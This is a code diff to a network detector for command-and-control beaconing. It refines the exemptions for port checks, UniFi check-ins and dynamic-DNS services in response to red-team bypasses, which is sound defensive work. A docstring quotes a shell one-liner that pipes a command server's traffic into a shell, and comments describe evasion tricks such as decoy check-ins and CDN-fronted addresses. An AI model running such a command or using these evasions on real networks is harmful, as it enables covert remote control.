@@ -42,10 +42,13 @@ blocks a server local hosts use), SYNs sent with a local host's address, a piece
 connection (after a keep-alive gap longer than the flow table's idle timeout, or a forged RST that
 closed the flow but not the connection), and a SYN-ACK sent to a host that never asked; any of them
 could be made at will by somebody who wants a server everyone uses (a resolver, a push service)
-blocked. Nor does a connection in which the server spoke and the client said nothing
-(`tcpstate.called`): a monitor's port check (Uptime Kuma's "TCP port" every 60 s to the owner's
-VPS's ssh) connects, takes the banner and closes, and blocked the VPS; a check-in says something
-(the price: a C&C whose client never sends a byte in its polling connections is not seen here).
+blocked. Nor does a port check: a connection in which the client said nothing
+(`tcpstate.client_silent`) to a server port whose first bytes were a speak-first service's banner
+(SSH-, a 220 greeting, RFB, telnet: the app decoder's banner events, `speaks_first`). Uptime Kuma's
+"TCP port" check of the owner's VPS's ssh every 60 s connects, takes the banner and closes, and
+blocked the VPS. A silent client elsewhere still counts: a cron job piping a C&C's push into a shell
+(`cat </dev/tcp/C2/8443 | sh`) never writes a byte (a red team: that one went unseen when every
+silent client was skipped). The price: a C&C that opens with an ssh banner to a silent client.
 Legitimate periodic traffic is told apart by who and where, not by timing (it is just as regular):
 * NTP (udp port 123 on either side), mDNS/LLMNR/SSDP/NetBIOS ports, and any multicast/broadcast
   destination: ignored.
@@ -68,8 +71,10 @@ Legitimate periodic traffic is told apart by who and where, not by timing (it is
   90 s (or re-registering every 10 min) to its provider got the provider blocked: the house's phone
   line. The price: a C&C that picks one of these ports needs that second finding too.
 * a device-management agent checking in with its controller (MANAGEMENT_AGENTS, told by the
-  HTTP request: UniFi's POST /inform every 10 s, to a controller on a VPS by address): counts half,
-  as a keepalive port. The price: a C&C that sends that request line and agent needs a second finding.
+  HTTP request and port: UniFi's POST /inform to 8080 every 10 s, to a controller on a VPS by
+  address), when at least half the tuple's connections were such check-ins: counts half, as a
+  keepalive port. The price: a C&C that sends that request line and agent to 8080 in every
+  connection needs a second finding.
 * an outside client calling a local server (inbound): ignored. A password guesser or a monitoring
   probe is just as regular, and the C&C of our hosts is outside; bruteforce/portscan judge those.
 Limits: the detector sees connections, so a UDP beacon that keeps one source port alive (one flow
@@ -91,7 +96,7 @@ from slipsq.allow import AllowList
 from slipsq.config import Option, fraction, positive
 from slipsq.detect.base import NO_EVIDENCE, Context, Detector, FlowGate
 from slipsq.detect.prefixes import MEMO_SIZE, Memo, is_local
-from slipsq.detect.tcpstate import called
+from slipsq.detect.tcpstate import client_silent, opened
 from slipsq.flow import AppEvent, Flow
 from slipsq.lru import put, touch
 from slipsq.records import CRITICAL, HIGH, LOW, Evidence
@@ -114,8 +119,11 @@ KEEPALIVE_WEIGHT = 0.5  # a beacon's confidence on such a port: at most 0.45, be
 # request (method, path, User-Agent prefix): UniFi access points and switches POST /inform every 10 s
 # to the controller (self-hosted on a VPS: an unnamed server on 8080, a C&C's port). Such a tuple
 # counts as a keepalive port's does: half, a block only with another finding.
-MANAGEMENT_AGENTS = (("POST", "/inform", "AirControl Agent", "UniFi inform"),)  # (POSTs only: on_app)
+# (method, path, User-Agent prefix, server port, what): POSTs only (on_app turns others away first)
+MANAGEMENT_AGENTS = (("POST", "/inform", "AirControl Agent", 8080, "UniFi inform"),)
 MAX_MANAGED = 4096  # (client, server, port) tuples remembered as management check-ins
+SPEAKS_FIRST = frozenset({"ssh", "ftp", "smtp", "vnc", "telnet"})  # banner services whose server speaks first
+MAX_SPEAKS_FIRST = 4096  # (server, port) pairs remembered as speaking first
 
 
 def _port_proto(v: object) -> bool:
@@ -130,10 +138,11 @@ DEFAULT_ALLOW_DOMAINS = [
     "time.windows.com", "time.apple.com",
     # dynamic DNS updaters (DuckDNS's documented cron job, ddclient, inadyn, a router's DDNS client) call
     # the update endpoint and a what-is-my-address service every 5 minutes by design. Only those exact
-    # hosts: the services' own zones (duckdns.org, ddns.net, no-ip's) are where RATs keep their C&C names
+    # hosts: the services' own zones (duckdns.org, ddns.net, no-ip's) are where RATs keep their C&C names.
+    # And only hosts on addresses of their own: icanhazip.com and ipify answer from a CDN's shared
+    # edge addresses, which serve any site by its TLS name, a C&C's too (a red team, 2026-12-07)
     "www.duckdns.org", "dynupdate.no-ip.com", "members.dyndns.org", "checkip.dyndns.org", "checkip.dyndns.com",
-    "api.dynu.com", "api.ipify.org", "api4.ipify.org", "api6.ipify.org", "api64.ipify.org", "icanhazip.com",
-    "ifconfig.me", "checkip.amazonaws.com",
+    "api.dynu.com", "ifconfig.me", "checkip.amazonaws.com",
 ]
 
 
@@ -267,7 +276,7 @@ class Intake:
     checked only when a tuple is about to be reported: DNS names per flow would cost more than the
     scoring)."""
 
-    __slots__ = ("full_n", "local", "min_n", "never", "own", "score", "tuples", "window")
+    __slots__ = ("full_n", "local", "min_n", "never", "own", "score", "speaks_first", "tuples", "window")
 
     def __init__(self, tuples: Tuples, min_n: int, full_n: int, window: float, own: Collection[str],
                  local: Callable[[str], bool], allow: AllowList) -> None:
@@ -277,6 +286,9 @@ class Intake:
                           MEMO_SIZE).__getitem__
         # the detector's scoring, for on_flow (Beacon._score): called only for a tuple `add` lets through
         self.score: Callable[[_Tuple, Flow], Sequence[Evidence]] | None = None
+        # (server, port) -> the service whose banner it sent first (ssh, ftp, smtp, vnc, telnet): a
+        # connection there in which the client said nothing is a port check (Beacon.on_app fills it)
+        self.speaks_first: OrderedDict[tuple[str, int], str] = OrderedDict()
 
     def on_flow(self, flow: Flow) -> Sequence[Evidence]:
         """The detector's hook, handed to the engine (one call per flow, no Beacon frame): `add`,
@@ -291,9 +303,9 @@ class Intake:
         """Traffic that is never a beacon (see the module docstring)."""
         if f.proto == "udp" and (f.dport in _IGNORED_UDP_PORTS or f.sport == 123):
             return True
-        if f.proto == "tcp" and not called(f):
-            return True
         dst = f.daddr
+        if f.proto == "tcp" and (not opened(f) or (client_silent(f) and (dst, f.dport) in self.speaks_first)):
+            return True
         if self.local(dst) and (f.dport in _DNS_PORTS or not self.local(f.saddr)):
             # DNS to a local resolver; or inbound: an Internet client calling a local server
             # regularly is a scanner, a brute forcer or a monitoring service, never our hosts' C&C
@@ -338,7 +350,8 @@ def make_intake(tuples: Tuples, min_n: int, full_n: int, window: float, own: Col
 class Beacon(Detector):
     name = "beacon"
     evidence_kinds = ("beacon",)
-    app_kinds = frozenset({"http"})  # requests that say a tuple is a device-management check-in
+    # requests that say a tuple is a device-management check-in; the banners of servers that speak first
+    app_kinds = frozenset({"http", "banner"})
     flow_gate = FlowGate(protos=frozenset({"tcp", "udp"}), reports=False)  # Intake.add's first test
     options = (
         Option("beacon.min_connections", 6, "connections of a 4-tuple before it is scored", lambda v: v >= 4,
@@ -397,8 +410,8 @@ class Beacon(Detector):
         # class's on_flow below says the same in Python
         self.on_flow = self.intake.on_flow  # type: ignore[method-assign]
         self._next_prune = 0.0
-        # (client, server, port) -> the management protocol its requests spoke (MANAGEMENT_AGENTS)
-        self._managed: OrderedDict[tuple[str, str, int], str] = OrderedDict()
+        # (client, server, port) -> (the management protocol its requests spoke, how many of them)
+        self._managed: OrderedDict[tuple[str, str, int], tuple[str, int]] = OrderedDict()
 
     def _allowed_name(self, ip: str) -> bool:
         names = self.ctx.dns_names.get(ip)
@@ -412,16 +425,24 @@ class Beacon(Detector):
 
     # --- hooks ------------------------------------------------------------------------------------
     def on_app(self, event: AppEvent) -> Sequence[Evidence]:
-        """An HTTP request: remember its tuple when it is a device-management check-in (MANAGEMENT_AGENTS)."""
+        """A banner: remember a server that speaks first (speaks_first, for the port-check rule). An
+        HTTP request: count it toward its tuple's device-management check-ins (MANAGEMENT_AGENTS)."""
         data = event.data
+        if event.kind == "banner":
+            service = data.get("service")
+            if service in SPEAKS_FIRST:  # sent by the server (a client's "SSH-2.0" names its own port)
+                put(self.intake.speaks_first, (event.saddr, event.sport), service, MAX_SPEAKS_FIRST)
+            return NO_EVIDENCE
         if data.get("method") != "POST":  # most requests: the agents' check-ins are POSTs
             return NO_EVIDENCE
         uri, agent = data.get("uri"), data.get("user_agent")
         if isinstance(uri, str) and isinstance(agent, str):
             path = uri.partition("?")[0]
-            for _, p, prefix, what in MANAGEMENT_AGENTS:
-                if path == p and agent.startswith(prefix):
-                    put(self._managed, (event.saddr, event.daddr, event.dport), what, MAX_MANAGED)
+            for _, p, prefix, port, what in MANAGEMENT_AGENTS:
+                if path == p and agent.startswith(prefix) and event.dport == port:
+                    key = (event.saddr, event.daddr, event.dport)
+                    seen = self._managed.get(key)
+                    put(self._managed, key, (what, 1 if seen is None else seen[1] + 1), MAX_MANAGED)
         return NO_EVIDENCE
 
     def on_flow(self, flow: Flow) -> Sequence[Evidence]:  # replaced by self.intake.on_flow in __init__
@@ -444,7 +465,10 @@ class Beacon(Detector):
         confidence = self.max_conf * (0.7 * timing + 0.3 * size) * min(1.0, n / self.full_n)
         src, dst, port, proto = flow.saddr, flow.daddr, flow.dport, flow.proto  # the tuple's key
         keepalive = f"{port}/{proto}" in self.keepalive_ports
-        managed = self._managed.get((src, dst, port)) if proto == "tcp" and self._managed else None
+        # a management check-in when at least half the tuple's connections were one: one inform POST
+        # is no licence for the TLS beacon that follows it on the same tuple (a red team's decoy)
+        checkins = self._managed.get((src, dst, port)) if proto == "tcp" and self._managed else None
+        managed = checkins[0] if checkins is not None and 2 * checkins[1] >= t.total else None
         if keepalive or managed:
             confidence *= KEEPALIVE_WEIGHT
         may_block = True
